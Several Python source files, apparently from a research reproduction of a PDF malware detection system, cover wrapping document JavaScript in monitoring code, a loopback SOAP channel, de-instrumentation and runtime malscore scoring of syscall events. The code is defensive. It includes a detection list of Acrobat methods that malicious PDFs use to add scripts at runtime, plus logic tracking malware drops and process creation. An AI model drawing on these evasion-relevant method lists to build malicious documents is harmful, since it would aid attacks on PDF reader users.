Lifecycle: :mod:`repro.core.deinstrument`, :mod:`repro.core.pipeline`.
"""

from repro.core.chains import ChainAnalysis, JavascriptChain, analyze_chains
from repro.core.detector import DetectorConfig, FeatureVector, MalscoreDetector, Verdict
from repro.core.instrument import InstrumentationResult, Instrumenter
from repro.core.pipeline import (
    OpenReport,
    ProtectedDocument,
    ProtectionPipeline,
    open_protected,
    protect,
)
from repro.core.static_features import StaticFeatures, extract_static_features

__all__ = [
    "ChainAnalysis",
    "DetectorConfig",
    "FeatureVector",
    "InstrumentationResult",
    "Instrumenter",
    "JavascriptChain",
    "MalscoreDetector",
    "OpenReport",
    "ProtectedDocument",
    "ProtectionPipeline",
    "StaticFeatures",
    "Verdict",
    "analyze_chains",
    "extract_static_features",
    "open_protected",
    "protect",
]
