"""The front-end: static analysis + document instrumentation (Phase I).

Pipeline per document (§III-A):

1. **Parse & decompress** — full structural parse; every stream's
   filter cascade is decoded (this dominates cost on large files, as
   Table X reports).  Owner-password encryption is removed first.
2. **Feature extraction** — JavaScript chain reconstruction and the
   five static features.
3. **Instrumentation** — every *triggered* script is replaced by
   context monitoring code wrapping the encrypted original.  Scripts
   invoked sequentially through ``/Next`` are enclosed by one single
   monitoring wrapper (§III-C); scripts installed at runtime are
   covered by the generated method wrappers.

Each phase runs inside a tracer span (``instrument.parse``,
``instrument.features``, ``instrument.rewrite``, nested under one
``instrument.document`` root per document); spans are timed with a
real monotonic clock so the Table X/XI benchmarks report genuine
front-end cost on this machine.  :class:`PhaseTimings` is a derived
view over those span durations, kept for callers that only need the
three Table X columns.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro import obs as obs_mod
from repro.limits import ResourceLimitExceeded
from repro.obs import profile as profile_mod

from repro.core import monitor_code as mc
from repro.core.chains import ChainAnalysis, analyze_chains
from repro.core.deinstrument import (
    MARKER_KEY,
    DeinstrumentationSpec,
    ScriptRestoreEntry,
)
from repro.core.keys import InstrumentationKey, KeyStore, fingerprint
from repro.core.static_features import StaticFeatures, extract_static_features
from repro.jsast.analyzer import DocumentJSAnalysis, analyze_document
from repro.pdf import encryption as pdf_encryption
from repro.pdf.document import JavascriptAction, PDFDocument
from repro.pdf.objects import PDFDict, PDFName, PDFRef, PDFStream, PDFString

#: Table IV: methods that add scripts at runtime (static scan records
#: their presence; the generated wrappers neutralise them at runtime).
RUNTIME_SCRIPT_METHODS = (
    "addScript",
    "setAction",
    "setPageAction",
    "bookmarkRoot",  # Bookmark.setAction is reached through bookmarkRoot
    "setTimeOut",
    "setInterval",
)

_RUNTIME_METHOD_RE = re.compile(
    r"\b(" + "|".join(RUNTIME_SCRIPT_METHODS) + r")\b"
)


def find_runtime_script_methods(code: str) -> List[str]:
    """Static scan for Table IV methods + delayed-execution methods."""
    return sorted(set(_RUNTIME_METHOD_RE.findall(code)))


@dataclass
class PhaseTimings:
    """Wall-clock seconds per front-end phase (Table X columns)."""

    parse_decompress: float = 0.0
    feature_extraction: float = 0.0
    instrumentation: float = 0.0

    @property
    def total(self) -> float:
        return self.parse_decompress + self.feature_extraction + self.instrumentation


@dataclass
class InstrumentationResult:
    """Output of the front-end for one document."""

    data: bytes
    key_text: str
    features: StaticFeatures
    chains: ChainAnalysis
    spec: DeinstrumentationSpec
    timings: PhaseTimings
    instrumented_scripts: int
    merged_sequential_scripts: int
    object_count: int
    input_size: int
    already_instrumented: bool = False
    was_encrypted: bool = False
    runtime_script_methods: List[str] = field(default_factory=list)
    #: Static JS analysis over the *original* (pre-wrap) scripts; None
    #: when the document was already instrumented (originals encrypted).
    js_analysis: Optional[DocumentJSAnalysis] = None
    #: Recursively instrumented embedded PDF documents (§VI extension).
    embedded: List["InstrumentationResult"] = field(default_factory=list)

    @property
    def has_javascript(self) -> bool:
        return self.features.has_javascript

    @property
    def triage_eligible(self) -> bool:
        """May Phase-II emulation be skipped for this document?

        Requires a completed static analysis (an already-instrumented
        input hides its original scripts, so no) that found no
        suspicious scripts, no side-effect APIs, no parse errors and no
        active document content.  A document with no JavaScript at all
        satisfies all of that trivially.
        """
        return self.js_analysis is not None and self.js_analysis.triage_eligible

    @property
    def triage_proven_malicious(self) -> bool:
        """Did abstract interpretation *prove* a script in this document
        reaches detector-flagged behaviour?  When true, Phase-II can be
        skipped in the other direction: the verdict is malicious."""
        return self.js_analysis is not None and self.js_analysis.proven_malicious

    @property
    def triage_fail_open_reason(self) -> str:
        """Why this document falls through to full emulation (``""``
        when it is triageable in either direction)."""
        if self.js_analysis is None:
            return "already-instrumented"
        if self.triage_proven_malicious:
            return ""
        return self.js_analysis.triage_fail_open_reason


class Instrumenter:
    """Phase-I front-end component."""

    def __init__(
        self,
        key_store: Optional[KeyStore] = None,
        soap_url: str = mc.SOAP_URL,
        fake_copies: int = 2,
        wrap_dynamic_methods: bool = True,
        instrument_embedded: bool = True,
        seed: Optional[int] = None,
        obs: Optional[obs_mod.Observability] = None,
    ) -> None:
        self.key_store = key_store if key_store is not None else KeyStore.create(seed)
        self.soap_url = soap_url
        self.fake_copies = fake_copies
        self.wrap_dynamic_methods = wrap_dynamic_methods
        self.instrument_embedded = instrument_embedded
        self.seed = seed
        self.obs = obs if obs is not None else obs_mod.get_default()

    # -- public API ------------------------------------------------------

    def instrument(
        self,
        data: bytes,
        name: str = "document.pdf",
        output: str = "rewrite",
        _depth: int = 0,
    ) -> InstrumentationResult:
        """Run the full front-end over raw PDF bytes.

        ``output`` selects the serialisation strategy: ``"rewrite"``
        re-emits the whole document; ``"incremental"`` appends an
        incremental update carrying only the touched objects — the
        original bytes stay intact (signed/large documents) and the
        cost no longer scales with file size.
        """
        if output not in ("rewrite", "incremental"):
            raise ValueError(f"unknown output mode {output!r}")
        timings = PhaseTimings()
        tracer = self.obs.tracer

        with tracer.span(
            "instrument.document", document=name, bytes=len(data), depth=_depth
        ) as doc_span:
            with tracer.span("instrument.parse") as parse_span:
                document = PDFDocument.from_bytes(data)
                was_encrypted = False
                if "Encrypt" in document.trailer:
                    pdf_encryption.remove_owner_password(document)
                    was_encrypted = True
                self._decompress_all(document)
            timings.parse_decompress = parse_span.duration

            with tracer.span("instrument.features") as features_span:
                chains = analyze_chains(document)
                features = extract_static_features(document, chains=chains)
            timings.feature_extraction = features_span.duration

            already = self._is_instrumented_by_us(document)
            js_analysis: Optional[DocumentJSAnalysis] = None
            if not already:
                # Static JS analysis runs over the *original* scripts,
                # before monitor-wrapping obscures them.
                with tracer.span("instrument.jsast", document=name):
                    with profile_mod.phase("jsast"):
                        js_analysis = analyze_document(document, obs=self.obs)

            with tracer.span("instrument.rewrite") as rewrite_span, \
                    profile_mod.phase("instrument"):
                key = self.key_store.issue(name, fingerprint(data))
                spec = DeinstrumentationSpec(key_text=key.render(), document_name=name)
                instrumented = 0
                merged = 0
                methods: Set[str] = set()
                embedded: List[InstrumentationResult] = []
                if not already:
                    max_num_before = max(
                        (ref.num for ref in document.store.objects), default=0
                    )
                    instrumented, merged, methods, changed = self._instrument_document(
                        document, key, spec
                    )
                    if self.instrument_embedded and _depth < 2:
                        embedded = self._instrument_embedded_pdfs(document, name, _depth)
                        changed.update(
                            entry.ref
                            for entry in document.store
                            if isinstance(entry.value, PDFStream)
                            and str(entry.value.dictionary.get("Type", "")) == "EmbeddedFile"
                        )
                    if not (instrumented or embedded):
                        out_data = data
                    elif output == "incremental" and not was_encrypted:
                        from repro.pdf.writer import write_incremental_update

                        changed.update(
                            entry.ref
                            for entry in document.store
                            if entry.num > max_num_before
                        )
                        out_data = write_incremental_update(
                            data, document.store, document.trailer, changed
                        )
                    else:
                        out_data = document.to_bytes()
                else:
                    out_data = data
            timings.instrumentation = rewrite_span.duration

            doc_span.set_tag("scripts", instrumented)
            doc_span.set_tag("chains", len(chains.chains))
            doc_span.set_tag(
                "triage_eligible",
                js_analysis is not None and js_analysis.triage_eligible,
            )
            if self.obs.enabled:
                metrics = self.obs.metrics
                metrics.inc("docs_instrumented")
                metrics.inc("js_chains_found", len(chains.chains))
                metrics.inc("scripts_instrumented", instrumented)

        return InstrumentationResult(
            data=out_data,
            key_text=key.render(),
            features=features,
            chains=chains,
            spec=spec,
            timings=timings,
            instrumented_scripts=instrumented,
            merged_sequential_scripts=merged,
            object_count=len(document.store),
            input_size=len(data),
            already_instrumented=already,
            was_encrypted=was_encrypted,
            runtime_script_methods=sorted(methods),
            js_analysis=js_analysis,
            embedded=embedded,
        )

    # -- internals ----------------------------------------------------------

    @staticmethod
    def _decompress_all(document: PDFDocument) -> None:
        """Force-decode every stream (the paper's decompress step)."""
        for entry in document.store:
            value = entry.value
            if isinstance(value, PDFStream):
                try:
                    value.decoded_data()
                except ResourceLimitExceeded:
                    # A blown scan budget (decompression bomb, deadline)
                    # must abort the whole scan, not skip one stream.
                    raise
                except Exception:  # noqa: BLE001 - undecodable ≠ fatal
                    continue

    @staticmethod
    def _is_instrumented_by_us(document: PDFDocument) -> bool:
        return MARKER_KEY in document.catalog

    def _instrument_embedded_pdfs(
        self, document: PDFDocument, host_name: str, depth: int
    ) -> List[InstrumentationResult]:
        """§VI extension: recursively instrument attached PDF files.

        Malicious documents can nest the real attack inside an embedded
        PDF that scripts later export and open; instrumenting it at
        protect time keeps those scripts monitored too.
        """
        results: List[InstrumentationResult] = []
        counter = 0
        for entry in document.store:
            value = entry.value
            if not isinstance(value, PDFStream):
                continue
            if str(value.dictionary.get("Type", "")) != "EmbeddedFile":
                continue
            try:
                payload = value.decoded_data()
            except ResourceLimitExceeded:
                raise
            except Exception:  # noqa: BLE001 - undecodable attachment
                continue
            if b"%PDF-" not in payload[:1024]:
                continue
            counter += 1
            try:
                sub = self.instrument(
                    payload, f"{host_name}::embedded{counter}.pdf", _depth=depth + 1
                )
            except ResourceLimitExceeded:
                raise
            except Exception:  # noqa: BLE001 - corrupt inner document
                continue
            if sub.instrumented_scripts or sub.embedded:
                filters = [str(f) for f in value.filters]
                value.set_decoded_data(sub.data, filters)
                results.append(sub)
        return results

    def _instrument_document(
        self,
        document: PDFDocument,
        key: InstrumentationKey,
        spec: DeinstrumentationSpec,
    ) -> Tuple[int, int, Set[str], Set]:
        """Wrap every triggered script.

        Returns (#wrapped, #merged, runtime-methods, changed-refs).
        Changed refs feed incremental-update serialisation: the holder
        of every rewritten action (or the catalog, for inline actions),
        any in-place-rewritten code stream, and the catalog itself
        (which gains the key marker).
        """
        generator = mc.MonitorCodeGenerator(
            key.render(),
            soap_url=self.soap_url,
            seed=self.seed,
            fake_copies=self.fake_copies,
            wrap_dynamic_methods=self.wrap_dynamic_methods,
        )
        actions = list(document.iter_javascript_actions())
        # Group /Next-sequential actions under their head so one single
        # context monitoring wrapper encloses the whole sequence.
        groups = self._group_sequential(document, actions)

        instrumented = 0
        merged = 0
        methods: Set[str] = set()
        changed: Set = set()
        root_ref = document.trailer.get("Root")

        def mark_changed(action: JavascriptAction) -> None:
            changed.add(action.holder_ref if action.holder_ref else root_ref)
            js_value = action.dictionary.get("JS")
            if isinstance(js_value, PDFRef):
                changed.add(js_value)

        seq = 0
        handled_ids: Set[int] = set()
        order_of = {id(action.dictionary): idx for idx, action in enumerate(actions)}

        for head, successors in groups:
            if id(head.dictionary) in handled_ids:
                continue
            codes = [document.get_javascript_code(head)]
            for successor in successors:
                codes.append(document.get_javascript_code(successor))
            combined = "\n;\n".join(code for code in codes if code.strip())
            if not combined.strip():
                continue
            seq += 1
            methods.update(find_runtime_script_methods(combined))
            wrapped = generator.wrap_script(combined, seq=seq)
            spec.entries.append(
                ScriptRestoreEntry(
                    order_index=order_of[id(head.dictionary)],
                    trigger=head.trigger,
                    name=head.name,
                    original_code=codes[0],
                )
            )
            document.set_javascript_code(head, wrapped.code)
            mark_changed(head)
            handled_ids.add(id(head.dictionary))
            instrumented += 1
            for successor, original in zip(successors, codes[1:]):
                spec.entries.append(
                    ScriptRestoreEntry(
                        order_index=order_of[id(successor.dictionary)],
                        trigger=successor.trigger,
                        name=successor.name,
                        original_code=original,
                    )
                )
                document.set_javascript_code(successor, "")
                mark_changed(successor)
                handled_ids.add(id(successor.dictionary))
                merged += 1

        if instrumented:
            document.catalog[PDFName(MARKER_KEY)] = PDFString(
                key.render().encode("ascii")
            )
            if root_ref is not None:
                changed.add(root_ref)
        changed.discard(None)
        return instrumented, merged, methods, changed

    @staticmethod
    def _group_sequential(
        document: PDFDocument, actions: List[JavascriptAction]
    ) -> List[Tuple[JavascriptAction, List[JavascriptAction]]]:
        """Partition actions into (head, /Next-successors) groups.

        ``iter_javascript_actions`` yields a head action followed by its
        ``/Next`` successors (same trigger); successors are identified
        by being reachable from the head's Next linkage.
        """
        by_dict_id: Dict[int, JavascriptAction] = {
            id(action.dictionary): action for action in actions
        }
        successor_ids: Set[int] = set()
        next_map: Dict[int, List[JavascriptAction]] = {}

        for action in actions:
            chain: List[JavascriptAction] = []
            current = action.dictionary
            visited = {id(current)}
            while True:
                nxt = current.get("Next")
                if nxt is None:
                    break
                nxt_dict = document.resolve_dict(nxt)
                if not nxt_dict or id(nxt_dict) in visited:
                    break
                visited.add(id(nxt_dict))
                follower = by_dict_id.get(id(nxt_dict))
                if follower is None:
                    break
                chain.append(follower)
                successor_ids.add(id(nxt_dict))
                current = nxt_dict
            next_map[id(action.dictionary)] = chain

        groups: List[Tuple[JavascriptAction, List[JavascriptAction]]] = []
        for action in actions:
            if id(action.dictionary) in successor_ids:
                continue  # will be handled under its head
            groups.append((action, next_map.get(id(action.dictionary), [])))
        return groups


def estimate_python_objects(document: PDFDocument) -> int:
    """Rough count of live Python objects backing a parsed document.

    Stands in for Table XI's "# of Python objects" column.
    """
    from repro.pdf.objects import PDFArray

    count = 0
    stack = [entry.value for entry in document.store]
    stack.append(document.trailer)
    while stack:
        value = stack.pop()
        count += 1
        if isinstance(value, PDFStream):
            count += max(1, len(value.raw_data) // 4096)
            stack.append(value.dictionary)
        elif isinstance(value, PDFDict):
            count += len(value)
            stack.extend(value.values())
        elif isinstance(value, PDFArray):
            stack.extend(value)
    return count
