"""The tiny SOAP server inside the runtime detector (§III-C).

The context monitoring code talks to the detector synchronously over
SOAP; the server validates the two-field key (Detector ID ‖
Instrumentation Key), dispatches valid ``enter``/``leave`` context
events to the runtime monitor, and reports anything else as a *fake
message* — which, under the zero-tolerance rule, condemns the active
document.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Protocol

from repro import obs as obs_mod
from repro.core.monitor_code import SOAP_HOST, SOAP_PORT


class ContextSink(Protocol):
    """What the SOAP server needs from the runtime monitor."""

    def on_context_enter(self, key_text: str, seq: int, dynamic: bool) -> bool: ...

    def on_context_leave(self, key_text: str, seq: int, dynamic: bool) -> None: ...

    def on_fake_message(self, raw: Dict[str, Any]) -> None: ...


@dataclass
class SoapStats:
    requests: int = 0
    enters: int = 0
    leaves: int = 0
    fakes: int = 0


class TinySOAPServer:
    """Keyed request/response endpoint on the loopback network."""

    def __init__(
        self,
        sink: ContextSink,
        host: str = SOAP_HOST,
        port: int = SOAP_PORT,
        obs: Optional[obs_mod.Observability] = None,
    ) -> None:
        self.sink = sink
        self.host = host
        self.port = port
        self.obs = obs if obs is not None else obs_mod.get_default()
        self.stats = SoapStats()
        self.log: List[Dict[str, Any]] = []

    def register(self, network: Any) -> None:
        """Bind onto the simulated network's RPC registry."""
        network.register_rpc(self.host, self.port, self.handle)

    def handle(self, payload: Any) -> Dict[str, Any]:
        """Process one SOAP request body; returns the response body."""
        self.stats.requests += 1
        if not isinstance(payload, dict):
            return self._fake({"malformed": repr(payload)})
        self.log.append(payload)
        ctx = payload.get("ctx")
        key_text = payload.get("key")
        seq_raw = payload.get("seq", 0)
        try:
            seq = int(seq_raw)
        except (TypeError, ValueError):
            return self._fake(payload)
        dynamic = bool(payload.get("dyn"))
        if ctx == "enter" and isinstance(key_text, str):
            accepted = self.sink.on_context_enter(key_text, seq, dynamic)
            self._observe("enter", key_text, seq, dynamic, accepted)
            if not accepted:
                self.stats.fakes += 1
                return {"status": "rejected"}
            self.stats.enters += 1
            return {"status": "ok"}
        if ctx == "leave" and isinstance(key_text, str):
            self.sink.on_context_leave(key_text, seq, dynamic)
            self._observe("leave", key_text, seq, dynamic, True)
            self.stats.leaves += 1
            return {"status": "ok"}
        return self._fake(payload)

    def _observe(
        self, kind: str, key_text: Optional[str], seq: int, dynamic: bool, accepted: bool
    ) -> None:
        """Telemetry: one ``context.enter``/``context.leave`` event per
        monitoring-code message, plus a keyed counter."""
        if not self.obs.enabled:
            return
        self.obs.tracer.event(
            f"context.{kind}", key=key_text, seq=seq, dynamic=dynamic, accepted=accepted
        )
        self.obs.metrics.inc("soap_messages", kind=kind)

    def _fake(self, payload: Dict[str, Any]) -> Dict[str, Any]:
        self.stats.fakes += 1
        if self.obs.enabled:
            self.obs.tracer.event("soap.fake", ctx=str(payload.get("ctx")))
            self.obs.metrics.inc("soap_messages", kind="fake")
        self.sink.on_fake_message(payload)
        return {"status": "rejected"}
