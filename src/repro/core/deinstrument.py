"""De-instrumentation (§III-F).

When a document has been proven benign, the context monitoring code is
removed so later opens pay no overhead.  The front-end exports a
*de-instrumentation specification* at instrumentation time; applying it
restores every original script byte-for-byte and drops the key marker.

The at-once policy is a heuristic; :class:`DeinstrumentationPolicy`
exposes the paper's suggested configurable open-count with optional
randomisation.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.pdf.document import PDFDocument

#: Catalog key marking an instrumented document.
MARKER_KEY = "CtxMonKey"


@dataclass
class ScriptRestoreEntry:
    """How to restore one instrumented (or blanked) action."""

    #: Position in the document's canonical action iteration order.
    order_index: int
    trigger: str
    name: Optional[str]
    original_code: str


@dataclass
class DeinstrumentationSpec:
    """Everything needed to undo one document's instrumentation."""

    key_text: str
    document_name: str
    entries: List[ScriptRestoreEntry] = field(default_factory=list)

    def to_dict(self) -> Dict:
        """JSON-serialisable export (the paper's spec is exported to disk)."""
        return {
            "key": self.key_text,
            "document": self.document_name,
            "entries": [
                {
                    "order_index": e.order_index,
                    "trigger": e.trigger,
                    "name": e.name,
                    "original_code": e.original_code,
                }
                for e in self.entries
            ],
        }

    @classmethod
    def from_dict(cls, data: Dict) -> "DeinstrumentationSpec":
        return cls(
            key_text=data["key"],
            document_name=data["document"],
            entries=[
                ScriptRestoreEntry(
                    order_index=e["order_index"],
                    trigger=e["trigger"],
                    name=e.get("name"),
                    original_code=e["original_code"],
                )
                for e in data["entries"]
            ],
        )


class DeinstrumentationError(ValueError):
    """The spec does not match the document."""


def deinstrument(data: bytes, spec: DeinstrumentationSpec) -> bytes:
    """Restore the original document from instrumented ``data``."""
    document = PDFDocument.from_bytes(data)
    marker = document.catalog.get(MARKER_KEY)
    if marker is None:
        raise DeinstrumentationError("document carries no instrumentation marker")

    actions = list(document.iter_javascript_actions())
    by_index = {entry.order_index: entry for entry in spec.entries}
    restored = 0
    for index, action in enumerate(actions):
        entry = by_index.get(index)
        if entry is None:
            continue
        document.set_javascript_code(action, entry.original_code)
        restored += 1
    if restored != len(spec.entries):
        raise DeinstrumentationError(
            f"spec has {len(spec.entries)} entries but only {restored} matched"
        )
    document.catalog.pop(MARKER_KEY, None)
    return document.to_bytes()


@dataclass
class DeinstrumentationPolicy:
    """When to de-instrument: after N benign opens (optionally fuzzed).

    ``opens_before`` = 1 reproduces the paper's at-once heuristic;
    ``randomize_window`` > 0 adds a per-document random extra count so
    an attacker cannot predict the de-instrumentation point.
    """

    opens_before: int = 1
    randomize_window: int = 0
    seed: int = 7

    def __post_init__(self) -> None:
        self._rng = random.Random(self.seed)
        self._required: Dict[str, int] = {}
        self._benign_opens: Dict[str, int] = {}

    def record_benign_open(self, key_text: str) -> bool:
        """Record one benign open; True when it is time to de-instrument."""
        if key_text not in self._required:
            extra = self._rng.randint(0, self.randomize_window) if self.randomize_window else 0
            self._required[key_text] = self.opens_before + extra
        self._benign_opens[key_text] = self._benign_opens.get(key_text, 0) + 1
        return self._benign_opens[key_text] >= self._required[key_text]

    def reset(self, key_text: str) -> None:
        self._benign_opens.pop(key_text, None)
        self._required.pop(key_text, None)
