"""The stand-alone runtime monitor + detector (Phase II, §III-D/E).

Consumes two streams:

* **context events** from the context monitoring code via the tiny
  SOAP server (``enter``/``leave`` with the per-document key), and
* **syscall events** from the hook DLL inside the reader process.

and maintains a per-document :class:`DocumentScoreState`.  Operations
captured while a JS context is open are attributed to that document
(in-JS features F8–F13); process creation / DLL injection outside any
JS context contribute to *every* activated document (out-JS features
F6–F7).  Memory counters are sampled at context entry, at every in-JS
sensitive API, and at context exit.

Detection workflow (Figure 4): sensitive operations are ignored until
at least one in-JS operation is captured from an unknown PDF; from then
on everything is recorded and the malscore re-evaluated after every
critical operation, raising an alert (and firing the detector-side
confinement of Table III) the moment it crosses the threshold.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from repro import obs as obs_mod
from repro.obs import profile as profile_mod
from repro.core.detector import (
    DetectorConfig,
    DocumentScoreState,
    FEATURE_NAMES,
    F_DROP,
    F_MEMORY,
    F_PROCESS,
    IN_JS_CATEGORY_FEATURE,
    MalscoreDetector,
    OUT_JS_CATEGORY_FEATURE,
    Verdict,
)
from repro.core.keys import KeyStore
from repro.core.monitor_code import SOAP_PORT
from repro.core.static_features import StaticFeatures
from repro.winapi.filesystem import FileSystem
from repro.winapi.hooks import DETECTOR_EVENT_PORT
from repro.winapi.process import Process, System
from repro.winapi.sandbox import Sandbox
from repro.winapi.syscalls import SyscallEvent


@dataclass
class Alert:
    """Raised the moment a document's malscore crosses the threshold."""

    verdict: Verdict
    time: float
    confinement_actions: List[str] = field(default_factory=list)


class RuntimeMonitor:
    """Back-end component: context tracking, scoring, confinement."""

    def __init__(
        self,
        key_store: KeyStore,
        system: System,
        config: Optional[DetectorConfig] = None,
        sandbox: Optional[Sandbox] = None,
        whitelisted_ports: Tuple[int, ...] = (SOAP_PORT, DETECTOR_EVENT_PORT),
        obs: Optional[obs_mod.Observability] = None,
    ) -> None:
        self.key_store = key_store
        self.system = system
        self.obs = obs if obs is not None else obs_mod.get_default()
        self.config = config if config is not None else DetectorConfig()
        self.detector = MalscoreDetector(self.config)
        self.sandbox = sandbox if sandbox is not None else Sandbox(system)
        self.whitelisted_ports = set(whitelisted_ports)

        self.states: Dict[str, DocumentScoreState] = {}
        self.static_registry: Dict[str, Tuple[str, Optional[StaticFeatures]]] = {}
        self.reader_process: Optional[Process] = None

        # Context tracking (single-threaded reader: a stack suffices and
        # depth > 1 only happens for nested dynamic-script wrapping).
        self._context_stack: List[Tuple[str, int]] = []  # (key, mem_at_entry)

        #: Executables downloaded in JS context — persistent across
        #: reader sessions (§III-E, cross-document collusion handling).
        self.downloaded_executables: Dict[str, str] = {}  # path -> downloader key

        self.alerts: List[Alert] = []
        self.fake_messages: List[Dict[str, Any]] = []
        self.ignored_events: int = 0
        self._sandboxed: List[Tuple[Process, Optional[str]]] = []

    # -- wiring ------------------------------------------------------------

    def attach_reader_process(self, process: Process) -> None:
        self.reader_process = process

    def register_document(
        self, key_text: str, name: str, static: Optional[StaticFeatures]
    ) -> None:
        """Pre-register a protected document's static features."""
        self.static_registry[key_text] = (name, static)
        if static is not None and self.obs.enabled:
            # The front-end's F1–F5 never pass through the runtime
            # recorders, so the event stream covers them here.
            for feature, bit in enumerate(static.binary(), start=1):
                if bit:
                    self.obs.tracer.event(
                        "feature_fired",
                        feature=f"F{feature}",
                        feature_name=FEATURE_NAMES[feature],
                        context="static",
                        document=name,
                    )
                    self.obs.metrics.inc("features_fired", feature=f"F{feature}")

    def handle_syscall_channel(self, message: object) -> None:
        """Subscriber callback for the hook-DLL event channel."""
        if isinstance(message, SyscallEvent):
            with profile_mod.phase("monitor"):
                self.handle_syscall(message)

    # -- telemetry-aware recording wrappers --------------------------------

    def _fire_in_js(
        self, state: DocumentScoreState, feature: int, description: str
    ) -> None:
        """Record an in-JS feature, emitting a ``feature_fired`` event
        the first time it fires for this document."""
        newly_fired = feature not in state.fired
        state.record_in_js(feature, description)
        if newly_fired and self.obs.enabled:
            self.obs.tracer.event(
                "feature_fired",
                feature=f"F{feature}",
                feature_name=FEATURE_NAMES[feature],
                context="in_js",
                document=state.document,
            )
            self.obs.metrics.inc("features_fired", feature=f"F{feature}")

    def _fire_out_js(
        self, state: DocumentScoreState, feature: int, description: str
    ) -> None:
        newly_fired = feature not in state.fired
        state.record_out_js(feature, description)
        if newly_fired and self.obs.enabled:
            self.obs.tracer.event(
                "feature_fired",
                feature=f"F{feature}",
                feature_name=FEATURE_NAMES[feature],
                context="out_js",
                document=state.document,
            )
            self.obs.metrics.inc("features_fired", feature=f"F{feature}")

    # -- ContextSink (SOAP) ----------------------------------------------------

    @property
    def active_key(self) -> Optional[str]:
        return self._context_stack[-1][0] if self._context_stack else None

    def on_context_enter(self, key_text: str, seq: int, dynamic: bool) -> bool:
        name = self.key_store.validate(key_text)
        if name is None:
            self.on_fake_message({"ctx": "enter", "key": key_text, "seq": seq})
            return False
        self._ensure_state(key_text, name)
        self._context_stack.append((key_text, self._memory_now()))
        return True

    def on_context_leave(self, key_text: str, seq: int, dynamic: bool) -> None:
        name = self.key_store.validate(key_text)
        if name is None:
            self.on_fake_message({"ctx": "leave", "key": key_text, "seq": seq})
            return
        if not self._context_stack or self._context_stack[-1][0] != key_text:
            # A leave with a valid key but no matching enter is a replay
            # attempt: zero tolerance.
            self.on_fake_message({"ctx": "leave", "key": key_text, "seq": seq})
            return
        _key, mem_at_entry = self._context_stack.pop()
        state = self._ensure_state(key_text, name)
        self._check_memory(state, mem_at_entry, self._memory_now(), "context exit")
        self._evaluate(state)

    def on_fake_message(self, raw: Dict[str, Any]) -> None:
        """Zero tolerance: the active document is tagged malicious."""
        self.fake_messages.append(dict(raw))
        active = self.active_key
        if self.obs.enabled:
            self.obs.tracer.event(
                "fake_message", active_key=active, ctx=str(raw.get("ctx"))
            )
            self.obs.metrics.inc("fake_messages")
        if active is not None and active in self.states:
            state = self.states[active]
            state.fake_message = True
            state.activated = True
            state.operation_log.append(f"fake SOAP message: {raw!r}")
            self._evaluate(state)

    # -- syscall stream ------------------------------------------------------------

    def handle_syscall(self, event: SyscallEvent) -> None:
        if self._is_whitelisted_channel(event):
            self.ignored_events += 1
            return
        active = self.active_key
        if self.obs.enabled:
            context = "in_js" if active is not None else "out_js"
            self.obs.tracer.event(
                "syscall",
                api=event.api,
                category=event.category,
                context=context,
                pid=event.pid,
                seq=event.seq,
            )
            self.obs.metrics.inc("syscalls", context=context, category=event.category)
        if active is not None:
            self._handle_in_js(self.states[active], event)
        else:
            self._handle_out_js(event)

    def _is_whitelisted_channel(self, event: SyscallEvent) -> bool:
        """Detector ↔ monitoring-code communications are white-listed."""
        if event.category != "network":
            return False
        host = str(event.args.get("host", ""))
        port = int(event.args.get("port", 0))
        return host in ("127.0.0.1", "localhost") and port in self.whitelisted_ports

    def _handle_in_js(self, state: DocumentScoreState, event: SyscallEvent) -> None:
        feature = IN_JS_CATEGORY_FEATURE.get(event.category)
        if feature is None:
            return
        description = self._describe(event)
        self._fire_in_js(state, feature, description)

        if event.category == "malware_drop":
            path = FileSystem.normalize(str(event.args.get("path", "")))
            state.dropped_paths.append(path)
            if FileSystem.is_executable(path):
                self.downloaded_executables[path] = state.key_text

        if event.category == "process_create":
            image = FileSystem.normalize(str(event.args.get("image", "")))
            self._sandbox_target(event, state.key_text)
            downloader = self.downloaded_executables.get(image)
            if downloader is not None and downloader != state.key_text:
                # Cross-document collusion (§III-E): prepend a malware
                # dropping op for this PDF and append an execution op
                # for the PDF that downloaded the file.
                self._fire_in_js(state, F_DROP, f"collusion: executes {image} dropped by peer")
                other = self.states.get(downloader)
                if other is not None:
                    self._fire_in_js(other, F_PROCESS, f"collusion: its download {image} executed")
                    self._evaluate(other)

        # Memory is also sampled when in-JS sensitive APIs are captured.
        if self._context_stack:
            _key, mem_at_entry = self._context_stack[-1]
            self._check_memory(state, mem_at_entry, event.memory_private_usage, description)
        self._evaluate(state)

    def _handle_out_js(self, event: SyscallEvent) -> None:
        feature = OUT_JS_CATEGORY_FEATURE.get(event.category)
        if feature is None:
            self.ignored_events += 1
            return
        if event.category == "process_create":
            image = str(event.args.get("image", ""))
            base = image.split("\\")[-1]
            if self.system.is_whitelisted_program(base) or self.system.is_whitelisted_program(image):
                self.ignored_events += 1
                return
            self._sandbox_target(event, None)
        description = self._describe(event)
        # Out-JS operations contribute to every active (activated) malscore.
        affected = [s for s in self.states.values() if s.activated]
        if not affected:
            self.ignored_events += 1  # nothing activated yet: ignored
            return
        for state in affected:
            self._fire_out_js(state, feature, description)
            self._evaluate(state)

    # -- helpers ------------------------------------------------------------------------

    def _ensure_state(self, key_text: str, name: str) -> DocumentScoreState:
        state = self.states.get(key_text)
        if state is None:
            registered_name, static = self.static_registry.get(key_text, (name, None))
            state = DocumentScoreState(key_text, registered_name or name, static)
            self.states[key_text] = state
        return state

    def _memory_now(self) -> int:
        if self.reader_process is not None:
            return self.reader_process.memory_counters().private_usage
        return 0

    def _check_memory(
        self, state: DocumentScoreState, at_entry: int, now: int, where: str
    ) -> None:
        delta = now - at_entry
        if delta >= self.config.memory_threshold_bytes:
            self._fire_in_js(
                state, F_MEMORY, f"memory +{delta >> 20} MB in JS context ({where})"
            )

    @staticmethod
    def _describe(event: SyscallEvent) -> str:
        detail = (
            event.args.get("path")
            or event.args.get("image")
            or event.args.get("host")
            or event.args.get("dll")
            or event.args.get("address")
            or ""
        )
        return f"{event.api}({detail})"

    def _sandbox_target(self, event: SyscallEvent, owner_key: Optional[str]) -> None:
        """Table III: the hook DLL rejected the creation; the detector
